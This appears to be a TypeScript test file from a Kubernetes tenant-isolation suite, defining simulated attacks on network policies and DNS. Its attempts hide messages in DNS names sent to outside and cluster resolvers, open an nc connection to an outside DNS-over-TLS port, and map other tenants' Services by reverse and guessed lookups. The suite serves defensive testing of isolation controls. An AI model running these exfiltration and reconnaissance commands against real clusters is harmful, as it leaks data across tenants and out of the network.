import { arrives, sent, short, soon } from '../_attempts';
import { attacks, type Outcome, refused, through } from '../_types';
import { inNamespace, OTHER, type World } from '../_world';

let questions = 0;

/** Asks for a name in which a message stands that nobody has sent before. */
async function tunnel(world: World, server?: string): Promise<Outcome> {
  questions += 1;
  const name = `message-${questions}.tunnel.example`;
  const command = ['timeout', '3', 'nslookup', '-type=a', name, ...(server ? [server] : [])];
  const { code, stdout, stderr } = await world.inPod(...command);
  const has = () => world.lab.internet.queries().some((query) => query.name === name);
  if (has()) return through('the name has come to a DNS outside');
  const answer = /NXDOMAIN|REFUSED|timed out/.exec(stdout + stderr)?.[0] ?? `ended with ${code}`;
  return refused(`nslookup: ${answer}, and the name stayed inside`);
}

/** What is rendered where `cluster.resolver` is not chosen. */
const ASK_THE_CLUSTER = {
  apiVersion: 'networking.k8s.io/v1',
  kind: 'NetworkPolicy',
  metadata: { name: 'allow-cluster-dns' },
  spec: {
    podSelector: {},
    policyTypes: ['Egress'],
    egress: [
      {
        to: [
          {
            namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': 'kube-system' } },
            podSelector: { matchLabels: { 'k8s-app': 'kube-dns' } },
          },
        ],
        ports: [{ port: 53, protocol: 'UDP' }],
      },
    ],
  },
};

/** Asks the DNS that it is given. */
async function lookup(world: World, ...args: readonly string[]): Promise<string> {
  const { stdout, stderr } = await world.inPod('timeout', '3', 'nslookup', ...args);
  return stdout + stderr;
}

export const NAMES = attacks('b', ['network-policies', 'global-policy'], {
  'names-by-address': {
    way: 'g',
    title: 'asks for the names of the Services’ addresses, one after the other, to find those of others',
    controls: ['resolver-zones'],
    attempt: async (world) => {
      const service = await world.lab.api.get(`/api/v1/namespaces/${OTHER}/services/web`);
      // A resolver that has just been changed may still be the one from before for a moment.
      return soon(world, async () => {
        const words = await lookup(world, String(service?.spec.clusterIP));
        return words.includes(OTHER)
          ? through(`the address of another tenant’s Service has its name: web.${OTHER}`)
          : refused(/NXDOMAIN|timed out/.exec(words)?.[0] ?? short(words));
      });
    },
  },
  'names-by-guess': {
    way: 'g',
    title: 'asks for a namespace of another tenant, and for one that is not there',
    controls: [],
    remains:
      'the DNS answers for all namespaces: a tenant that guesses a name learns whether it exists, and the address of the Service, which its network policies keep it from',
    attempt: async (world) => {
      const [theirs, none] = await Promise.all(
        [OTHER, 'not-there'].map((name) => lookup(world, '-type=a', `${name}.svc.cluster.local`)),
      );
      return !theirs?.includes('NXDOMAIN') && none?.includes('NXDOMAIN')
        ? through('the two are answered in different ways')
        : refused('both are answered in the same way');
    },
  },
  'dns-outside': {
    title: 'asks a DNS server outside',
    attempt: (world) => tunnel(world, world.lab.topology.internet.dns),
  },
  'dns-over-tls': {
    title: 'opens a connection to a DNS server outside, over TLS',
    attempt: (world) =>
      arrives(world, 'tcp dport 853', () => sent(world, 'nc', '-w', '1', world.lab.topology.internet.web, '853')),
  },
  'dns-of-the-cluster': {
    title: 'hides a message in a name, and asks the cluster’s own DNS, which forwards',
    attempt: (world) => tunnel(world, world.lab.topology.dns),
  },
  'dns-of-the-tenants': {
    title: 'hides a message in a name, and asks the DNS that it is given',
    controls: ['resolver', 'resolver-policies'],
    attempt: (world) => tunnel(world),
  },
  'dns-without-resolver': {
    title: 'hides a message in a name, where `cluster.resolver` is not chosen',
    controls: [],
    exclusive: true,
    remains:
      'pods then ask the cluster’s DNS, which asks the world: choose `cluster.resolver`, by which only Squid resolves',
    attempt: async (world) => {
      await world.create(inNamespace('networking.k8s.io/v1:networkpolicies'), ASK_THE_CLUSTER, world.lab.api);
      let outcome = refused('not tried');
      await world.lab.waitFor('the policy holds', async () => {
        outcome = await tunnel(world, world.lab.topology.dns);
        return outcome.through;
      });
      return outcome;
    },
  },
});
